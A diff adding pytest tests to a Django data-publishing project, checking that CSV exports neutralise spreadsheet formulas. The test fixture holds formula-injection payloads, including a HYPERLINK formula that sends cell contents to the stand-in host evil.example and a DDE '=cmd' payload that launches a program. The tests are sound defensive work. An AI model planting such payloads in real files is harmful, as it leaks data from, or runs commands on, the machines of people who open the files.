@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
+from django.test import Client
 
 from oversight.core import publication
 from oversight.registry import actions
@@ -80,3 +81,40 @@ def test_it_reimports_an_exported_licence_file_as_unchanged(tmp_path: Path) -> N
 def test_it_names_an_unknown_dataset() -> None:
     with pytest.raises(CommandError, match="no public dataset called 'secrets'"):
         call_command("export", "secrets")
+
+
+HOSTILE_SII: dict[str, Any] = {
+    "unique_id": "Hostile_1",
+    "title": '=HYPERLINK("http://evil.example/?q="&A1,"Report")',
+    "supplier_company": "",
+    "company_name": "",
+    "supplier_company_hq": "",
+    "recipient_country": "France",
+    "enduser": "@SUM(1,1)",
+    "goods": ["+1+1"],
+    "order_year": "2015",
+    "transfer_to_enduser_reported_as_complete": "Unknown",
+    "export_data_or_open_source": "Open",
+    "sources": "=cmd|' /C calc'!A0",
+    "source_links": [],
+}
+
+
+def test_it_neutralises_formulas_in_the_csv_export_and_keeps_json_exact(tmp_path: Path) -> None:
+    run("import", "transfers", str(write_sii(tmp_path, HOSTILE_SII)))
+    exported = list(csv.DictReader(_export(tmp_path, "transfers", "csv").splitlines()))
+    [row] = [row for row in exported if row["external_id"] == "Hostile_1"]
+    assert row["title"] == "'" + HOSTILE_SII["title"]
+    assert row["sources"] == "'" + HOSTILE_SII["sources"]
+    [record] = [
+        r for r in json.loads(_export(tmp_path, "transfers", "json")) if r["title"][0] == "="
+    ]
+    assert (record["title"], record["sources"]) == (HOSTILE_SII["title"], HOSTILE_SII["sources"])
+
+
+def test_the_public_csv_download_neutralises_formulas(tmp_path: Path) -> None:
+    run("import", "transfers", str(write_sii(tmp_path, HOSTILE_SII)))
+    body = Client().get("/transfers/?format=csv").getvalue().decode()
+    titles = [row["title"] for row in csv.DictReader(body.splitlines())]
+    assert "'" + HOSTILE_SII["title"] in titles
+    assert not [title for title in titles if title[:1] in ("=", "+", "-", "@", "\t", "\r")]
